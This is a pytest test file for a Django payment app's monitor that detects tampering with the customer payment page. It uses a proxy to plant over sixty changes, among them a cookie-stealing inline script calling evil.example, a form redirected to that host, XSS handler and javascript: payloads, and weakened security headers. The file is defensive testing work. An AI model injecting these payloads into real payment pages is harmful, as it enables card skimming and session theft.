"""The payment page as customers receive it: any change on the way is told in one look, and nothing else (R19, J4)."""

import re
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone

from balancedue.actions.watch_pay_page import look_at_page, watch_next_page
from balancedue.models import Account, Alarm, Delivery, Event, PageWatch, PaymentAttempt, PaymentRequest
from balancedue.transports.web_page import NotReceived
from tests.makers import (
    make_account,
    make_attempt,
    make_connection,
    make_order,
    make_payment,
    make_sent_request,
    make_user,
)
from tests.tampering import Answer, Change, TamperingProxy

EVIL = "https://evil.example"


@pytest.fixture
def proxy(live_server: Any, settings: Any) -> Iterator[TamperingProxy]:
    """Between the running web server and its customers."""
    with TamperingProxy(live_server.url) as between:
        settings.PUBLIC_URL = between.url
        yield between


@pytest.fixture
def account(transactional_db: None) -> Account:
    made = make_account(brand_colour="#7A2E52", legal_name="Foxglove Print Company LLC", tax_id="93-0555142")
    make_connection(made)
    return made


@pytest.fixture
def request_(account: Account) -> PaymentRequest:
    return make_sent_request(make_order(account), by=make_user(account))


def page(change: Change) -> Change:
    """Only the page is changed, not the scripts."""
    return lambda answer: change(answer) if answer.is_page else None


def header(name: str, value: str | None) -> Change:
    return page(lambda answer: answer.set(name, value))


def policy(old: str, new: str) -> Change:
    def change(answer: Answer) -> None:
        sent = answer.header("Content-Security-Policy")
        changed = re.sub(old, new, sent, count=1)
        assert changed != sent
        answer.set("Content-Security-Policy", changed)

    return page(change)


def body(old: str, new: str) -> Change:
    def change(answer: Answer) -> None:
        changed = re.sub(old, new, answer.body, count=1)
        assert changed != answer.body
        answer.body = changed

    return page(change)


def head(markup: str) -> Change:
    return body("</head>", markup + "</head>")


def main(markup: str) -> Change:
    return body("</main>", markup + "</main>")


def script(name: str, more: str) -> Change:
    def change(answer: Answer) -> None:
        if answer.path.startswith("/static/") and name in answer.path:
            answer.body += more

    return change


def extra_policy(answer: Answer) -> None:
    answer.headers.append(("Content-Security-Policy", "script-src *"))


def moved(answer: Answer) -> None:
    answer.status, answer.body = 302, ""
    answer.set("Location", f"{EVIL}/pay")


def stylesheet_as_script(answer: Answer) -> None:
    if "pay.js" in answer.path or "/js/pay." in answer.path:
        answer.set("Content-Type", "text/plain")


PLANTED: dict[str, tuple[Change, str]] = {
    "a script of another host": (head(f'<script src="{EVIL}/x.js"></script>'), "script evil.example"),
    "a script of our host that is not ours": (head('<script src="/static/js/staff.js"></script>'), "js/staff.js"),
    "a script of our host outside the static files": (head('<script src="/i/x.js"></script>'), "a script"),
    "an inline script": (main("<script>fetch('//evil.example?'+document.cookie)</script>"), "in the page itself"),
    "an inline script with the nonce": (
        page(
            lambda a: setattr(a, "body", a.body.replace("</head>", f'<script nonce="{nonce_of(a)}">1</script></head>'))
        ),
        "in the page itself",
    ),
    "a script with upper-case letters": (main("<ScRiPt/src=//evil.example/x.js></sCrIpT>"), "evil.example"),
    "a script hidden in a comment": (main("<!--><script>1</script>-->"), "comment"),
    "a script in a picture": (main("<svg><script href='//evil.example/x.js'></script></svg>"), "script"),
    "a module": (body(r'<script src="(\S*pay\S*)" defer>', r'<script src="\1" type="module">'), "js/pay.js"),
    "our script left out": (body(r'<script src="\S*js/pay\S*" defer></script>', ""), "js/pay.js is missing"),
    "our script changed at its end": (script("js/pay", "\nnew Image().src='//evil.example'"), "js/pay.js"),
    "our script changed by one byte": (script("js/customer", " "), "js/customer.js"),
    "our script sent as something else": (stylesheet_as_script, "not sent as a script"),
    "another script for the card form": (
        body(r'data-script="[^"]*"', f'data-script="{EVIL}/v3/"'),
        "loads another script",
    ),
    "the card form of another account": (body(r'data-key="[^"]*"', 'data-key="pk_live_other"'), "another account"),
    "a preload from another host": (head(f'<link rel="preload" as="script" href="{EVIL}/x.js">'), "evil.example"),
    "a module preload": (head('<link rel="modulepreload" href="/static/js/staff.js">'), "modulepreload"),
    "another stylesheet": (head('<link rel="stylesheet" href="/static/css/staff.css">'), "stylesheet"),
    "a style of our nonce": (
        page(lambda a: setattr(a, "body", a.body.replace("</style>", "input[value^='4']{background:url(/x)}</style>"))),
        "style",
    ),
    "a style attribute": (main('<p style="position:fixed">Pay here</p>'), "has style"),
    "an inline handler": (body("<form ", '<form onsubmit="steal()" '), "onsubmit"),
    "a handler on a picture": (main("<img src=x onerror=alert(1)>"), "onerror"),
    "a javascript address": (main('<a href="java\tscript:alert(1)">Help</a>'), "javascript"),
    "a javascript address in entities": (main('<a href="&#106;avascript:alert(1)">Help</a>'), "javascript"),
    "an injected frame": (main(f'<iframe src="{EVIL}/form"></iframe>'), "iframe"),
    "a frame with its own page": (main('<iframe srcdoc="&lt;script&gt;1&lt;/script&gt;"></iframe>'), "srcdoc"),
    "an object": (main('<object data="/x"></object>'), "object"),
    "an unknown element": (main("<fencedframe></fencedframe>"), "fencedframe"),
    "a base": (head(f'<base href="{EVIL}/">'), "base"),
    "a refresh": (head(f'<meta http-equiv="refresh" content="0;url={EVIL}">'), "http-equiv"),
    "a policy in the page": (head('<meta http-equiv="Content-Security-Policy" content="">'), "http-equiv"),
    "another referrer": (body('content="no-referrer"', 'content="unsafe-url"'), "referrer"),
    "the form leads elsewhere": (body(r'action="[^"]*"', f'action="{EVIL}/pay"'), "leads elsewhere"),
    "the form leads to another of our pages": (body(r'(action="/i/[^"]*)pay/"', r'\1opened/"'), "leads elsewhere"),
    "the button leads elsewhere": (body('id="pay">', f'id="pay" formaction="{EVIL}">'), "formaction"),
    "a second form": (main(f'<form method="post" action="{EVIL}"></form>'), "2 forms"),
    "a field for the card number": (main('<input name="cardnumber">'), "field cardnumber"),
    "a known field that asks for the card": (
        body(
            'id="postcode" name="postcode" autocomplete="[^"]*"',
            'id="postcode" name="postcode" autocomplete="cc-number"',
        ),
        "field postcode",
    ),
    "a link to another host": (main(f'<a href="{EVIL}/pay">Pay here</a>'), "evil.example"),
    "a picture of another host": (main(f'<img src="{EVIL}/pixel.gif">'), "evil.example"),
    "an address with backslashes": (main(r'<a href="\\\\evil.example/pay">Pay here</a>'), "evil.example"),
    "no content policy": (header("Content-Security-Policy", None), "no content policy"),
    "two content policies": (page(extra_policy), "more than one"),
    "a policy that only reports": (
        page(lambda a: setattr(a, "headers", [(k.replace("Policy", "Policy-Report-Only"), v) for k, v in a.headers])),
        "no content policy",
    ),
    "one more script host": (policy("script-src 'self'", f"script-src 'self' {EVIL}"), "script-src allows"),
    "unsafe-inline": (policy("script-src 'self'", "script-src 'self' 'unsafe-inline'"), "'unsafe-inline'"),
    "unsafe-eval": (policy("script-src 'self'", "script-src 'self' 'unsafe-eval'"), "'unsafe-eval'"),
    "any script": (policy("script-src 'self'", "script-src *"), "script-src allows"),
    "one more host to talk to": (policy("connect-src 'self'", f"connect-src 'self' {EVIL}"), "connect-src allows"),
    "one more frame": (policy("frame-src ", f"frame-src {EVIL} "), "frame-src allows"),
    "one more form target": (policy("form-action 'self'", f"form-action 'self' {EVIL}"), "form-action allows"),
    "no base-uri": (policy("base-uri 'none';?", ""), "base-uri"),
    "no frame-ancestors": (policy("frame-ancestors 'none';?", ""), "frame-ancestors"),
    "no default-src": (policy("default-src 'none';?", ""), "default-src"),
    "a directive that goes before ours": (
        policy("script-src ", f"script-src-elem {EVIL}; script-src "),
        "script-src-elem",
    ),
    "the nonce of yesterday": (policy("'nonce-[^']*'", "'nonce-AAAA'"), "nonce"),
    "no nosniff": (header("X-Content-Type-Options", None), "x-content-type-options"),
    "another Referrer-Policy": (header("Referrer-Policy", "unsafe-url"), "referrer-policy"),
    "kept in caches": (header("Cache-Control", "public, max-age=600"), "cache-control"),
    "no opener policy": (header("Cross-Origin-Opener-Policy", None), "cross-origin-opener-policy"),
    "the camera allowed": (header("Permissions-Policy", "camera=*"), "permissions-policy"),
    "a cookie": (header("Set-Cookie", "id=1"), "set-cookie"),
    "a preload in a header": (header("Link", f"<{EVIL}/x.js>; rel=preload; as=script"), "link"),
    "a refresh in a header": (header("Refresh", f"0; url={EVIL}"), "refresh"),
    "readable for other hosts": (header("Access-Control-Allow-Origin", "*"), "access-control"),
    "another character set": (header("Content-Type", "text/html; charset=utf-7"), "content-type"),
    "another page altogether": (
        page(lambda a: setattr(a, "body", "<p>Pay by bank transfer to this account")),
        "missing",
    ),
    "moved to another host": (page(moved), "status 302"),
}


def nonce_of(answer: Answer) -> str:
    found = re.search(r"'nonce-([^']*)'", answer.header("Content-Security-Policy"))
    return found[1] if found else ""


def test_the_real_page_is_as_it_must_be(proxy: TamperingProxy, account: Account, request_: PaymentRequest) -> None:
    """R19: no false alarm, with and without colour, logo, contact and message; and looking leaves no trace."""
    events, before = Event.objects.count(), PaymentRequest.objects.values().get()
    assert look_at_page(account) == []
    for facts in (
        {"brand_colour": ""}, {"brand_colour": "#FFEE00"}, {"phone": "", "email": "", "legal_name": ""},
        {"name": "<script>alert(1)</script>", "terms": "onclick=1 javascript:x <!-- \\x00"}, {"logo": b"\x89PNG\r\n"},
        {"locale": "ar"}, {"bank_details": "IBAN <b>"},
    ):  # fmt: skip
        Account.objects.filter(pk=account.pk).update(**facts)
        assert look_at_page(account) == [], facts
    make_attempt(request_.order, state="waiting", code="insufficient_funds")
    assert look_at_page(account) == []
    assert PaymentRequest.objects.values().get() == before
    assert Event.objects.count() == events
    assert {method for method, _ in proxy.asked} == {"GET"}


@pytest.mark.parametrize("name", PLANTED)
def test_a_planted_change_is_told_in_one_look(
    proxy: TamperingProxy, account: Account, request_: PaymentRequest, name: str
) -> None:
    """R19: 30 of 30, and more."""
    proxy.change, word = PLANTED[name]
    found = look_at_page(account)
    assert found, name
    assert any(word in difference for difference in found), found
    assert request_.token not in " ".join(found)


def test_there_are_enough_planted_changes() -> None:
    assert len(PLANTED) >= 60


@pytest.mark.parametrize("hosted", [False, True])
def test_where_the_processor_has_a_page_of_its_own_that_way_is_watched(
    proxy: TamperingProxy, account: Account, request_: PaymentRequest, hosted: bool
) -> None:
    account.connections.update(hosted=hosted)
    assert look_at_page(account) == []
    for name in ("a script of another host", "the form leads elsewhere", "one more form target", "unsafe-inline"):
        proxy.change, word = PLANTED[name]
        assert any(word in difference for difference in look_at_page(account) or []), name


def test_a_processors_own_fields_are_known(proxy: TamperingProxy, account: Account, request_: PaymentRequest) -> None:
    proxy.change = main('<input name="loyalty">')
    assert look_at_page(account) == ["there is a field loyalty"]


def test_a_change_raises_the_alarm_once_and_what_is_right_again_ends_it(
    proxy: TamperingProxy, account: Account, request_: PaymentRequest
) -> None:
    """R19: hourly."""
    proxy.change = head(f'<script src="{EVIL}/x.js"></script>')
    assert watch_next_page()
    alarm = Alarm.objects.get()
    assert (alarm.kind, alarm.over_at) == ("page_changed", None)
    assert "evil.example" in alarm.facts["what"]
    assert Delivery.objects.filter(kind="alarm").count() == 1
    watch = PageWatch.objects.get()
    assert watch.differences
    assert timedelta(minutes=59) < watch.next_check_at - timezone.now() <= timedelta(hours=1)
    assert not watch_next_page(), "not before the hour is over"
    _due()
    assert watch_next_page()
    assert Alarm.objects.count() == 1
    proxy.change = lambda answer: None
    _due()
    assert watch_next_page()
    alarm.refresh_from_db()
    assert alarm.over_at is not None
    assert PageWatch.objects.get().differences == []


def test_a_page_out_of_reach_is_no_change_and_is_told_after_three_times(
    proxy: TamperingProxy, account: Account, request_: PaymentRequest, settings: Any
) -> None:
    settings.PUBLIC_URL = "http://localhost:9"
    for misses in (1, 2):
        assert not watch_next_page()
        assert PageWatch.objects.get().misses == misses
        assert not Alarm.objects.exists()
        _due()
    assert not watch_next_page()
    assert Alarm.objects.get().kind == "page_not_checked"
    settings.PUBLIC_URL = proxy.url
    _due()
    assert watch_next_page()
    assert Alarm.objects.get().over_at is not None
    assert PageWatch.objects.get().misses == 0


@pytest.mark.parametrize("status", [403, 404, 429, 502])
def test_a_server_in_trouble_says_nothing_about_the_page(
    proxy: TamperingProxy, account: Account, request_: PaymentRequest, status: int
) -> None:
    proxy.change = page(lambda answer: setattr(answer, "status", status))
    with pytest.raises(NotReceived, match=str(status)):
        look_at_page(account)


def test_an_answer_without_end_is_not_read_to_its_end(
    proxy: TamperingProxy, account: Account, request_: PaymentRequest
) -> None:
    proxy.change = page(lambda answer: setattr(answer, "body", "x" * 3_000_000))
    with pytest.raises(NotReceived, match="does not end"):
        look_at_page(account)


def test_what_is_paid_while_we_look_is_no_change(
    proxy: TamperingProxy, account: Account, request_: PaymentRequest
) -> None:
    """The page says then, rightly, that the invoice is paid."""
    proxy.change = page(lambda answer: setattr(answer, "body", "<p>This invoice is paid</p>") or _pay(request_))
    assert look_at_page(account) is None


def _pay(request: PaymentRequest) -> None:
    make_payment(request.order, 110_528)


def test_where_nothing_can_be_paid_there_is_nothing_to_look_at(account: Account, request_: PaymentRequest) -> None:
    make_payment(request_.order, 110_528)
    assert look_at_page(account) is None
    assert not watch_next_page()
    watch = PageWatch.objects.get()
    assert watch.checked_at is None
    assert watch.next_check_at > timezone.now()


def test_looking_begins_no_payment(proxy: TamperingProxy, account: Account, request_: PaymentRequest) -> None:
    """I4."""
    assert watch_next_page()
    assert not PaymentAttempt.objects.exists()
    request_.refresh_from_db()
    assert request_.status == "sent"


def test_the_command_says_it_line_by_line(
    proxy: TamperingProxy, account: Account, request_: PaymentRequest, capsys: pytest.CaptureFixture[str]
) -> None:
    call_command("check_pay_page", account.slug)
    assert capsys.readouterr().out == f"{account.slug}: as it must be\n"
    proxy.change = header("X-Content-Type-Options", None)
    with pytest.raises(SystemExit) as ended:
        call_command("check_pay_page")
    assert ended.value.code == 1
    assert capsys.readouterr().out == f"{account.slug}: the header x-content-type-options is missing\n"
    with pytest.raises(CommandError):
        call_command("check_pay_page", "nobody")


def _due() -> None:
    PageWatch.objects.update(next_check_at=timezone.now())
